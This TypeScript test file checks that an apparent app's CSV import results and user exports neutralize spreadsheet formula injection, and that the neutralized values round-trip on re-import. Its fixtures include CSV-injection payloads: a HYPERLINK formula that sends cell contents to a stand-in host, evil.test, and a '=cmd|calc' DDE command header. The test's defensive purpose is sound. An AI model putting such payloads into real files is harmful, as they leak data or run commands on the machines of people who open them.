// One CSV writer (src/core/csv-safe.ts) for every CSV Signet produces. Issue 10, finding 10: an import's
// results.csv echoed the uploaded cells raw, so a formula in the file became a live formula in the
// spreadsheet that opened the results; exports already escaped theirs.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvText, neutralizeFormula, restoreFormula } from '../src/core/csv-safe.ts';
import { importCsv, importSetup } from './imports-helper.ts';

const FORMULAS = [
  '=1+2',
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
];

test('the writer puts a quote before every cell a spreadsheet would read as a formula, and only those', () => {
  for (const f of FORMULAS) assert.equal(neutralizeFormula(f), `'${f}`);
  for (const plain of ['Ada', 'a=1', ' x', "'quoted", '', '42'])
    assert.equal(neutralizeFormula(plain), plain);
  assert.equal(neutralizeFormula(-5), "'-5");
  assert.equal(neutralizeFormula(null), '');
  assert.equal(csvText([['=1+2', 'a,b', 'say "hi"']]), `'=1+2,"a,b","say ""hi"""\n`);
});

test("an import's results CSV escapes the uploaded header and cells, on /api and /management", async (t) => {
  const { app, api, tenant } = await importSetup(t);
  const csv =
    'FirstName,LastName,UserEmail,PermissionSet,UserTitle,=cmd|calc\n' +
    FORMULAS.map(
      (f, i) =>
        `Ada,"${f.replaceAll('"', '""')}",f${i}-${Date.now()}@example.test,DS Sender,"${f.replaceAll('"', '""')}",x`,
    ).join('\n') +
    '\n';
  const imp = await importCsv(api, `account_id=${tenant.accountId}&operation=add`, csv);
  assert.equal(imp.status, 'completed', JSON.stringify(imp));

  const native = await api('GET', `/api/imports/${imp.id}/results.csv`);
  const management = await app.inject({
    method: 'GET',
    url: `/management/v2/organizations/${tenant.organizationId}/imports/bulk_users/${imp.id}/results_csv`,
    headers: { authorization: `Bearer ${tenant.key}` },
  });
  for (const res of [native, management]) {
    assert.equal(res.statusCode, 200, res.body);
    const rows = parse(res.body, { bom: true }) as string[][];
    assert.deepEqual(rows[0], [
      'FirstName',
      'LastName',
      'UserEmail',
      'PermissionSet',
      'UserTitle',
      "'=cmd|calc",
      'ProcessingResults',
    ]);
    assert.equal(rows.length, FORMULAS.length + 1);
    FORMULAS.forEach((f, i) => {
      const row = rows[i + 1]!;
      assert.equal(row[1], `'${f}`, `row ${i + 1} LastName`);
      assert.equal(row[4], `'${f}`, `row ${i + 1} UserTitle`);
      assert.equal(row[0], 'Ada');
    });
  }
});

test('a users export imports back unchanged: the quote the writer added is dropped on the way in', async (t) => {
  const { api, tenant } = await importSetup(t);
  const made = await api('POST', '/api/users', {
    email: `round-${Date.now()}@example.test`,
    first_name: '@Ada',
    last_name: '=1+2',
    job_title: '+1 555 0100',
    account_id: tenant.accountId,
  });
  assert.equal(made.statusCode, 201, made.body);
  const before = made.json();
  const started = await api('POST', '/api/exports', { kind: 'users', account_ids: [tenant.accountId] });
  assert.equal(started.statusCode, 202, started.body);
  let done: any;
  for (let i = 0; ; i++) {
    done = (await api('GET', `/api/exports/${started.json().id}`)).json();
    if (done.status === 'completed' || done.status === 'failed') break;
    assert.ok(i < 300, 'the export did not end');
    await new Promise((r) => setTimeout(r, 100));
  }
  assert.equal(done.status, 'completed', JSON.stringify(done));
  const file = (await api('GET', `/api/exports/${done.id}/download`)).body;
  assert.match(file, /'=1\+2/, 'the export neutralizes the formula');
  // The exported file, as it is, re-imported as an update of the same account.
  const imp = await importCsv(api, `account_id=${tenant.accountId}&operation=update`, file);
  assert.equal(imp.status, 'completed', JSON.stringify(imp));
  const after = (await api('GET', `/api/users/${before.id}`)).json();
  assert.deepEqual([after.first_name, after.last_name, after.job_title], ['@Ada', '=1+2', '+1 555 0100']);
  assert.equal(restoreFormula("'=1+2"), '=1+2');
  assert.equal(restoreFormula("'quoted"), "'quoted", 'a quote before plain text is the text');
});
